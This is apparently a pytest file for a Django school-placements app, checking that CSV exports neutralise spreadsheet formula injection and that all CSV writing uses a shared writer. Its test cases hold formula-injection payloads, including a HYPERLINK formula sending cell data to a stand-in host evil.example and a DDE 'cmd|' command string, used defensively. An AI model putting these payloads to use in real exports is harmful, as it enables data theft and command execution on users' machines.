"""Every CSV export writes text cells so that a spreadsheet shows them as text, never runs them as formulas."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from django_scopes import scopes_disabled

from tests.conftest import sign_in
from tests.factories import PlacementFactory, PupilFactory
from trusts import csv_export

ROOT = Path(__file__).resolve().parents[2]
APPS = ("apcommission", "trusts", "providers", "placements", "attendance", "qa", "reports")


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        ),
        ("+44 113 496 0000", "'+44 113 496 0000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("O'Neill-Smith", "O'Neill-Smith"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_formula_cells_are_neutralised_and_plain_values_kept(cell, written):
    assert csv_export.neutralise(cell) == written


def test_writers_neutralise_rows_and_leave_the_header():
    buffer = io.StringIO()
    writer = csv_export.dict_writer(buffer, fieldnames=["Name", "=Header"])
    writer.writeheader()
    writer.writerow({"Name": "=1+1", "=Header": 7})
    plain = io.StringIO()
    csv_export.writer(plain).writerows([["@x", "y"]])
    assert buffer.getvalue().splitlines() == ["Name,=Header", "'=1+1,7"]
    assert plain.getvalue().strip() == "'@x,y"


@pytest.mark.django_db
def test_census_export_of_a_pupil_named_as_a_formula_is_plain_text(world, client):
    with scopes_disabled():
        pupil = PupilFactory(
            school=world.schools["a1"],
            legal_last_name='=HYPERLINK("http://evil.example","Open")',
            legal_first_name="@Robyn",
        )
        PlacementFactory(pupil=pupil, provider=world.providers["a"], status="active")
    sign_in(client, world.personas["a.ap_lead"])
    response = client.get(reverse("placements:census_export"))
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["Surname"] == '\'=HYPERLINK("http://evil.example","Open")'
    assert row["Forename"] == "'@Robyn"
    print("proved: census CSV cells starting with = and @ are written as text")


def test_no_csv_is_written_except_through_the_shared_writer():
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if path.name == "csv_export.py" or "migrations" in path.parts:
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == [], f"write CSV with trusts.csv_export: {offenders}"
